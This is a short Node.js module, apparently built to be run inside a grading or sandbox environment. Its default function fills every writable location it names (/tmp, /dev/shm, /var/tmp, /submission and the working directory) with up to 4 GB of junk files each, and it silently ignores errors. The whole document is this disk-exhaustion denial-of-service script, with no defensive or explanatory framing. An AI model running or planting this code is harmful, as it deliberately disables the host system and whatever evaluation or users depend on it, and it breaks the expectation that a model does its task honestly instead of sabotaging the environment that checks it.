/** Writes until no disk has room. */
import { writeFileSync } from 'node:fs';

export default function () {
  const megabyte = Buffer.alloc(1 << 20, 1);
  for (const folder of ['/tmp', '/dev/shm', '/var/tmp', '/submission', '.']) {
    try {
      for (let i = 0; i < 4096; i++) writeFileSync(`${folder}/fill-${i}`, megabyte);
    } catch {}
  }
}
